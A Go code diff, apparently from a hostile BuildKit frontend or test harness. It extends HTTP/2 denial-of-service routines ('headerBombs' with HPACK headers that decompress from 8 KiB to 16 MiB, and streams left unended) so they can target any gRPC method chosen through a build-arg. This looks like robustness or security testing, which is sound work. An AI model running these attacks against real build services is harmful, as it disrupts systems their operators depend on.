@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"cmp"
 	"context"
 	"encoding/binary"
 	"fmt"
@@ -32,22 +33,23 @@ func frame(kind, flags byte, stream uint32, payload []byte) error {
 	return err
 }
 
-// solveHeaders is the block of headers that begins a call of Solve.
-func solveHeaders() []byte {
-	const path = "/moby.buildkit.v1.frontend.LLBBridge/Solve"
+// callHeaders is the block of headers that begins a call. The build-arg METHOD says of what, if not
+// of Solve.
+func callHeaders(o options) []byte {
+	path := cmp.Or(o.arg("METHOD"), "/moby.buildkit.v1.frontend.LLBBridge/Solve")
 	b := append([]byte{0x83, 0x86, 0x04, byte(len(path))}, path...)
 	return append(b, "\x01\x01x\x0f\x10\x10application/grpc\x00\x02te\x08trailers"...)
 }
 
 // headerBombs begins calls with headers that decompress from 8 KiB to 16 MiB.
-func headerBombs(options) error {
+func headerBombs(o options) error {
 	const size, calls = 4000, 1000
 	go func() { _, _ = io.Copy(io.Discard, os.Stdin) }()
 	if _, err := os.Stdout.WriteString(preface); err != nil {
 		return err
 	}
 	for i := range uint32(calls) {
-		block := append(solveHeaders(), "\x40\x05x-bin\x7f\xa1\x1e"...)
+		block := append(callHeaders(o), "\x40\x05x-bin\x7f\xa1\x1e"...)
 		block = append(block, bytes.Repeat([]byte("A"), size)...)
 		block = append(block, bytes.Repeat([]byte{0xbe}, size)...) // the whole header again
 		if frame(frameHeaders, endHeaders, 2*i+1, block) != nil {
@@ -75,7 +77,7 @@ func requestsWithoutEnd(o options) error {
 	for i := range uint32(calls) {
 		stream := 2*i + 1
 		head := binary.BigEndian.AppendUint32([]byte{0}, promised)
-		if err := frame(frameHeaders, endHeaders, stream, solveHeaders()); err != nil {
+		if err := frame(frameHeaders, endHeaders, stream, callHeaders(o)); err != nil {
 			return err
 		}
 		w.open(stream, len(head))
